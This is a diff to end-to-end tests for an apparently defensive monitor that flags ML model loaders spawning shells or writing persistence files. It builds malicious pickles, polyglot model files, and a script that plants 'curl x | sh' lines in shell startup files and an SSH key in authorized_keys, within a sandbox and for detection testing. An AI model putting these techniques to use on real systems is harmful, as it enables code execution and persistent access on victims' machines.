@@ -22,6 +22,7 @@ import struct
 import subprocess
 import time
 
+import polyglots
 from harness import (E2E_DIR, PY, Checks, Scenario, TestFailure, for_loader, get,
                      require_rules, summary, touching, with_rule)
 
@@ -70,6 +71,16 @@ def _bytes_cannot_unmark(extra):
             marker = sc.path("MARK-" + name)
             models[name] = (sc.write("%s.pkl" % name, prefix + b"cos\nsystem\n(S'touch %s'\ntR."
                                      % marker.encode()), marker)
+        # files whose start is data to one reader and code to another
+        # loader: a tar (torch's legacy reader) behind a JPEG start or a
+        # valid safetensors header, a zlib stream (joblib) that is text
+        glots = {}
+        for name, kind, fname in (("tar-image", "torch", "model.pt"),
+                                  ("safetensors-tar", "torch", "weights-tar.safetensors"),
+                                  ("zlib-text", "joblib", "model.joblib")):
+            marker = sc.path("MARK-" + name)
+            glots[name] = (kind, sc.write(fname, polyglots.BUILDERS[name]("touch " + marker)),
+                           marker)
         st, hl = _safetensors_bytes()
         weights = sc.write("weights.safetensors", st)
         sc.start(sentinel=True, extra_args=extra)
@@ -77,23 +88,46 @@ def _bytes_cannot_unmark(extra):
         for name, (model, marker) in models.items():
             pids[name] = sc.run_loader("pickle", model).expect_ok("loader " + name).pid
             sc.expect_file(marker)
+        for name, (kind, model, marker) in glots.items():
+            # torch's legacy reader fails after the payload: no expect_ok
+            pids[name] = sc.run_loader(kind, model).pid
+            sc.expect_file(marker)
         for name, pid in pids.items():
             sc.wait_rules(pid, {"model-loader-shell"})
         # the twin: a real data-only file the loader maps (as safetensors
         # does), proven inert through its own mapping; its shell afterwards
         # is its own business
-        twin = sc.run_script(
-            "import numpy as np, subprocess, time\n"
-            "w = np.memmap(%r, dtype=np.float32, mode='r', offset=%d)\n"
-            "time.sleep(1.0)\n"
-            "subprocess.run(['sh', '-c', 'true'], check=True)\n"
-            "print('SUM', float(w.sum()))\n" % (weights, 8 + hl)).expect_ok("safetensors reader")
+        reader = ("import numpy as np, subprocess, time\n"
+                  "w = np.memmap(%r, dtype=np.float32, mode='r', offset=%d)\n"
+                  "time.sleep(1.0)\n"
+                  "subprocess.run(['sh', '-c', 'true'], check=True)\n"
+                  "print('SUM', float(w.sum()))\n")
+        twin = sc.run_script(reader % (weights, 8 + hl)).expect_ok("safetensors reader")
+        # the same file while another process holds a writable shared
+        # mapping of it: its bytes may change after mlwatch read them, so
+        # the reader stays watched and its shell is reported
+        held = sc.write("held.safetensors", st)
+        writer = subprocess.Popen(
+            [PY, "-c", "import mmap, sys, time\n"
+             "f = open(sys.argv[1], 'r+b'); m = mmap.mmap(f.fileno(), 0); f.close()\n"
+             "m[-1:] = m[-1:]\nprint('MAPPED', flush=True)\ntime.sleep(30)\n", held],
+            stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
+        try:
+            if writer.stdout.readline().strip() != "MAPPED":
+                raise TestFailure("the writer could not map the file")
+            heldrd = sc.run_script(reader % (held, 8 + hl)).expect_ok("reader beside a writer")
+            sc.wait_rules(heldrd.pid, {"model-loader-shell"})
+        finally:
+            writer.kill()
+            writer.wait(5)
         sc.liveness_sentinel()
         alerts = sc.stop()
         c = Checks("bytes")
         for name, pid in pids.items():
             mine = require_rules(sc, alerts, pid, {"model-loader-shell"})
             c.true(mine, "prefix %s: no alert" % name)
+        c.true(require_rules(sc, alerts, heldrd.pid, {"model-loader-shell"}),
+               "a file mapped for writing by another process was judged inert")
         c.true("SUM 10.0" in twin.out, "safetensors reader printed %r" % twin.out)
         _silent(c, alerts, twin.pid, "a shell after a mapped safetensors load")
         c.done()
@@ -320,20 +354,36 @@ def test_enforce_kills_a_renamed_shell():
 def _persistence_links(extra):
     """Persistence without opening the target for writing: a file written
     elsewhere and renamed onto ~/.bashrc, a hard link onto ~/.profile, a
-    symlink into ~/.config/autostart. The twin saves a checkpoint the
-    atomic way (write a temporary, rename it into place)."""
+    symlink into ~/.config/autostart, a rename by a relative name from
+    inside ~/.ssh (the payload leaves the directory at once, so a name
+    resolved later against its cwd would miss), and a rename by io_uring
+    onto ~/.zshrc. The twin saves a checkpoint the atomic way (write a
+    temporary, rename it into place)."""
     with Scenario("fc-persist") as sc:
         home = sc.home
         os.makedirs(os.path.join(home, ".config", "autostart"))
-        code = ("import os\n"
+        os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
+        code = ("import os, sys\n"
+                "sys.path.insert(0, %r)\n"
+                "import uring\n"
                 "open(%r, 'w').write('curl x | sh\\n')\n"
                 "os.rename(%r, %r)\n"
                 "open(%r, 'w').write('curl x | sh\\n')\n"
                 "os.link(%r, %r)\n"
-                "os.symlink(%r, %r)\n") % (
+                "os.symlink(%r, %r)\n"
+                "open(%r, 'w').write('ssh-ed25519 AAAA x\\n')\n"
+                "os.chdir(%r)\n"
+                "os.rename(%r, 'authorized_keys')\n"
+                "os.chdir('/')\n"
+                "open(%r, 'w').write('curl x | sh\\n')\n"
+                "r = uring.Ring()\n"
+                "assert r.rename(%r, %r) == 0\n") % (
+            E2E_DIR,
             sc.path("rc.tmp"), sc.path("rc.tmp"), os.path.join(home, ".bashrc"),
             sc.path("profile.tmp"), sc.path("profile.tmp"), os.path.join(home, ".profile"),
-            sc.path("profile.tmp"), os.path.join(home, ".config", "autostart", "x.desktop"))
+            sc.path("profile.tmp"), os.path.join(home, ".config", "autostart", "x.desktop"),
+            sc.path("key.tmp"), os.path.join(home, ".ssh"), sc.path("key.tmp"),
+            sc.path("zrc.tmp"), sc.path("zrc.tmp"), os.path.join(home, ".zshrc"))
         model = sc.make_model("pickle", "model.pkl", exec_code=code)
         ckpt = sc.make_model("torch", "ckpt.pt")
         sc.start(sentinel=True, extra_args=extra)
@@ -350,7 +400,8 @@ def _persistence_links(extra):
         c = Checks("persistence " + summary(mine))
         hits = {(get(a, "event", "syscall"), os.path.basename(get(a, "event", "resolved_path") or ""))
                 for a in with_rule(mine, "model-loader-persistence-write")}
-        for want in (("rename", ".bashrc"), ("link", ".profile"), ("symlink", "x.desktop")):
+        for want in (("rename", ".bashrc"), ("link", ".profile"), ("symlink", "x.desktop"),
+                     ("rename", "authorized_keys"), ("rename", ".zshrc")):
             c.true(want in hits, "no persistence alert for %s onto %s (saw %s)" % (want + (sorted(hits),)))
         _silent(c, alerts, twin.pid, "an atomic checkpoint save")
         c.done()
